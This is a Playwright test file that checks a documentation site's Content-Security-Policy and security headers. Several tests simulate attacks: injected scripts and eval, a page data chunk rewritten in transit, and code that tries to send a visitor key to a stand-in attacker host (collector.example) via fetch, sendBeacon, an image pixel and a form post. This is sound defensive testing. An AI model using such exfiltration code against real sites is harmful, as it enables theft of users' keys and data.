import fs from 'node:fs';
import path from 'node:path';
import {test, expect, visit, openTryIt, takePolicyViolations, recordPolicyViolation} from './fixtures';
import {featuredApis} from './helpers/site-data';
import {waitForDiagrams} from './helpers/axe';
import {listHtmlFiles, htmlFileToUrlPath} from '../plugins/lib/site-html.mjs';
import {scanPage} from '../plugins/security-headers/node/scan';
import {SECURITY_POLICY_FILE} from '../scripts/lib/static-server.mjs';

/**
 * The Content-Security-Policy of plugins/security-headers, in the browser: what the build wrote runs,
 * what anyone else adds does not, and a key can only travel to the hosts the data names. Every other
 * spec checks too that its pages report no violation (e2e/fixtures.ts, keptPolicy).
 */
const BUILD_DIR = path.resolve(__dirname, '../build');
const policies = JSON.parse(fs.readFileSync(path.join(BUILD_DIR, SECURITY_POLICY_FILE), 'utf8')) as {
  header: string;
  overrides: Record<string, string>;
  headers: Record<string, string>;
};

interface CoveringPage {
  urlPath: string;
  /** A redirect page (plugins/redirects): it leaves for its target at once. */
  redirect: boolean;
  /** It draws diagrams, whose styles exist only at run time. */
  runtimeStyles: boolean;
}

/**
 * The fewest pages that together carry every inline script, style attribute and style element of the
 * build (and every page drawing runtime styles): loading each in full shows that the policy allows
 * all of them as the browser reads them, which the parser-based scan cannot show about itself.
 */
function pagesCoveringInlineContent(): CoveringPage[] {
  const uncovered = new Set<string>();
  const pages = listHtmlFiles(BUILD_DIR).map((file) => {
    const html = fs.readFileSync(file, 'utf8');
    const scan = scanPage(html);
    const items = new Set([...scan.scripts].map((hash) => `script ${hash}`).concat([...scan.styleAttributes, ...scan.styleElements].map((hash) => `style ${hash}`)));
    items.forEach((item) => uncovered.add(item));
    return {urlPath: htmlFileToUrlPath(BUILD_DIR, file), redirect: html.includes('http-equiv="refresh"'), items, runtimeStyles: scan.needsRuntimeStyles};
  });
  const newItems = (page: (typeof pages)[number]) => [...page.items].filter((item) => uncovered.has(item)).length;
  const chosen = pages.filter((page) => page.runtimeStyles);
  chosen.forEach((page) => page.items.forEach((item) => uncovered.delete(item)));
  while (uncovered.size > 0) {
    const best = pages.reduce((a, b) => (newItems(b) > newItems(a) ? b : a));
    chosen.push(best);
    best.items.forEach((item) => uncovered.delete(item));
  }
  // The not-found page answers /404 with status 404; it is loaded at an unknown path instead.
  return chosen.map(({urlPath, redirect, runtimeStyles}) => ({urlPath: urlPath === '/404' ? '/no-such-page' : urlPath, redirect, runtimeStyles}));
}

test('every inline script and style the build wrote is allowed on the page that carries it', async ({page, context}) => {
  // Absolute redirects (config/redirects.ts) lead to the site's public address: answered here.
  await context.route(`${new URL(process.env.SITE_URL ?? 'https://apis.example.com').origin}/**`, (route) => route.fulfill({status: 200, contentType: 'text/html', body: '<!doctype html><title>site</title>'}));
  const covering = pagesCoveringInlineContent();
  expect(covering.length, 'pages needed to cover the inline content').toBeGreaterThan(1);
  for (const {urlPath, redirect, runtimeStyles} of covering) {
    if (redirect) {
      // The redirect's script runs as the page is read; its target is another page.
      await page.goto(urlPath, {waitUntil: 'commit'});
      await page.waitForURL((url) => url.pathname !== urlPath);
      continue;
    }
    const response = await visit(page, urlPath);
    expect(response!.headers()['content-security-policy'], urlPath).toBe(policies.overrides[urlPath] ?? policies.header);
    if (runtimeStyles) await waitForDiagrams(page, 1);
  }
  // keptPolicy: none of these pages reported a violation.
});

test('every page carries the policy and the frame, sniffing, referrer, opener and permissions headers; assets the frame and sniffing ones', async ({request}) => {
  for (const target of ['/', '/google/ccxt', '/fo/0', '/no-such-page']) {
    const headers = (await request.get(target)).headers();
    expect(headers['content-security-policy'], target).toContain("frame-ancestors 'none'");
    expect(headers['x-frame-options'], target).toBe('DENY');
    expect(headers['x-content-type-options'], target).toBe('nosniff');
    expect(headers['referrer-policy'], target).toBe('strict-origin-when-cross-origin');
    expect(headers['cross-origin-opener-policy'], target).toBe('same-origin');
    expect(headers['permissions-policy'], target).toMatch(/camera=\(\).*geolocation=\(\).*microphone=\(\).*payment=\(\)/);
  }
  for (const target of ['/manifest.json', '/img/social-card.png']) {
    const headers = (await request.get(target)).headers();
    expect(headers['x-frame-options'], target).toBe('DENY');
    expect(headers['x-content-type-options'], target).toBe('nosniff');
    expect(headers['content-security-policy'], target).toBeUndefined();
  }
  expect(policies.header).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
});

test('a script injected into a page does not run: inline, as an event handler or through eval', async ({page}) => {
  // Code run from the test itself is exempt from the policy (DevTools), so eval is tried by a script
  // the page loads from its own origin, as a compromised dependency would.
  await page.route('**/assets/js/eval-probe.js', (route) =>
    route.fulfill({contentType: 'text/javascript', body: "try { window.__evaluated = eval('true'); } catch { window.__evaluated = false; }"}),
  );
  await visit(page, '/google/ccxt');
  const ran = await page.evaluate(async () => {
    const flags = window as unknown as Record<string, unknown>;
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.__handled = true');
    document.body.append(button);
    button.click();
    const probe = document.createElement('script');
    const loaded = new Promise((resolve) => (probe.onload = resolve));
    probe.src = '/assets/js/eval-probe.js';
    document.body.append(probe);
    await loaded;
    return {inline: flags.__injected === true, handler: flags.__handled === true, evaluated: flags.__evaluated};
  });
  expect(ran).toEqual({inline: false, handler: false, evaluated: false});
  const violations = takePolicyViolations();
  // Chromium reports the refused eval by the EvalError alone, which `evaluated: false` shows.
  for (const kind of ['inline script', 'inline event handler']) expect(violations.join('\n')).toContain(kind);
  expect(violations.every((violation) => /script-src/.test(violation))).toBe(true);
});

test('a key cannot leave for a host the data does not name, not even from injected code', async ({page, context}) => {
  const attacker = 'https://collector.example';
  const reached: string[] = [];
  await context.route(`${attacker}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({status: 204});
  });
  await visit(page, '/google/ccxt');
  await page.evaluate(async (origin) => {
    const key = 'visitor-key-123';
    await fetch(`${origin}/fetch?k=${key}`).catch(() => undefined);
    navigator.sendBeacon(`${origin}/beacon`, key);
    const image = new Image();
    const settled = new Promise((resolve) => (image.onerror = image.onload = resolve));
    image.src = `${origin}/pixel?k=${key}`;
    await settled;
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `${origin}/form`;
    document.body.append(form);
    form.submit();
  }, attacker);
  // Each refusal is reported once the browser has dealt with it (the form's comes last, after the
  // evaluate has returned): wait for all three, then nothing may have reached the host.
  const violations: string[] = [];
  const reported = () => {
    violations.push(...takePolicyViolations());
    return violations.join('\n');
  };
  for (const directive of ['connect-src', 'img-src', 'form-action']) await expect.poll(reported, {message: directive}).toContain(directive);
  // The form's navigation is refused: the page stays.
  expect(await page.evaluate(() => window.location.pathname)).toBe('/google/ccxt');
  expect(reached).toEqual([]);
});

test('Chromium logs a refusal twice; the violations list holds it once, also when the copy comes after it was taken', async ({page, context}) => {
  await context.route('https://collector.example/**', (route) => route.fulfill({status: 204}));
  await visit(page, '/google/ccxt');
  const copies: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes("form-action 'self'")) copies.push(message.text());
  });
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://collector.example/form';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => copies.length).toBe(2);
  expect(copies[1]).toBe(copies[0]);
  expect(takePolicyViolations()).toEqual([`${page.url()}: ${copies[0]}`]);
  // The copy arriving once the test has taken the first (the order a CI run met).
  recordPolicyViolation(`${page.url()}: ${copies[0]}`);
  expect(takePolicyViolations()).toEqual([]);
});

test('the try-it panel cannot reach a host the data does not name, even when its page data says so', async ({page, context}) => {
  const index = featuredApis.findIndex((api) => api.id === 'ipstack');
  const api = featuredApis[index]!;
  const declared = new URL(api.baseUrl).origin;
  const attacker = 'https://api.collector.example';
  const reached: string[] = [];
  await context.route(`${attacker}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({status: 200, contentType: 'application/json', body: '{}'});
  });
  // The page's data chunk is rewritten in flight, as tampered data or an injected script would.
  await context.route('**/assets/js/*.js', async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    await route.fulfill({response, body: body.replaceAll(declared, attacker)});
  });
  await visit(page, `/fo/${index}`);
  const panel = await openTryIt(page);
  await panel.getByLabel('API 密钥').fill('visitor-key-123');
  await panel.getByRole('button', {name: '发送请求'}).click();
  await expect(panel.getByRole('alert')).toContainText('请求失败');
  expect(reached).toEqual([]);
  expect(takePolicyViolations().join('\n')).toContain(`Connecting to '${attacker}`);
});

test('a page that draws styles at run time, reached by a link, loads as itself and draws them', async ({page}) => {
  await visit(page, '/tests/docs');
  // A client-side navigation keeps the first page's stricter policy: the page loads again as itself.
  const reloaded = page.waitForEvent('load');
  await page.evaluate(() => {
    window.history.pushState({}, '', '/tests/pages/diagrams');
    window.dispatchEvent(new PopStateEvent('popstate'));
  });
  await reloaded;
  await waitForDiagrams(page, 1);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("style-src 'self' 'unsafe-inline'");
});

test('no page may frame the site, not even its own', async ({page}) => {
  await visit(page, '/google/ccxt');
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = '/google';
    document.body.append(frame);
  });
  await expect.poll(() => takePolicyViolations().join('\n')).toContain("frame-ancestors 'none'");
});
